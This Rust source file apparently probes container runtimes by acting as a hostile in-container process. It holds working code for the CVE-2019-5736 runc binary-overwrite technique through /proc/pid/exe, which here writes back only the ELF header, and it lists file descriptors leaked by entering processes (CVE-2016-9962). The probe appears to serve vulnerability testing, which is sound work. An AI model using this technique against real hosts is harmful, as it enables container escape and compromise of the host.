//! What a hostile process in the container does while a runtime enters it.

use std::collections::BTreeSet;
use std::fs;
use std::io::{Seek, Write};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

/// Processes that are not this program: those that are only just entering.
fn strangers() -> Vec<u32> {
    let own = fs::read_link("/proc/self/exe").ok();
    let mut found = Vec::new();
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        let Some(pid) = entry
            .file_name()
            .to_str()
            .and_then(|name| name.parse().ok())
        else {
            continue;
        };
        let exe = fs::read_link(format!("/proc/{pid}/exe")).ok();
        if pid != std::process::id() && exe != own {
            found.push(pid);
        }
    }
    found
}

/// CVE-2019-5736: opens the program of everybody who enters, and writes into it as soon as
/// nobody runs it any more. Writes back what was there.
pub fn overwrite(seconds: f64) -> Value {
    let deadline = Instant::now() + Duration::from_secs_f64(seconds);
    let (mut opened, mut written) = (0, 0);
    let mut held: Vec<fs::File> = Vec::new();
    while Instant::now() < deadline {
        for pid in strangers() {
            if let Ok(file) = fs::File::open(format!("/proc/{pid}/exe")) {
                opened += 1;
                held.push(file);
            }
        }
        held.truncate(20);
        written += held.iter().filter(|file| write_back(file)).count();
    }
    json!({ "opened": opened, "written": written })
}

fn write_back(file: &fs::File) -> bool {
    use std::os::fd::AsRawFd;
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    let Ok(mut writable) = fs::OpenOptions::new().write(true).open(path) else {
        return false;
    };
    writable.rewind().is_ok() && writable.write_all(b"\x7fELF").is_ok()
}

/// CVE-2016-9962: what the descriptors of those who enter point to.
pub fn look(seconds: f64) -> Value {
    let deadline = Instant::now() + Duration::from_secs_f64(seconds);
    let mut targets = BTreeSet::new();
    let mut seen = BTreeSet::new();
    while Instant::now() < deadline {
        for pid in strangers() {
            seen.insert(pid);
            for entry in fs::read_dir(format!("/proc/{pid}/fd"))
                .into_iter()
                .flatten()
                .flatten()
            {
                if let Ok(target) = fs::read_link(entry.path()) {
                    targets.insert(target.to_string_lossy().into_owned());
                }
            }
        }
    }
    json!({ "strangers": seen.len(), "targets": targets })
}
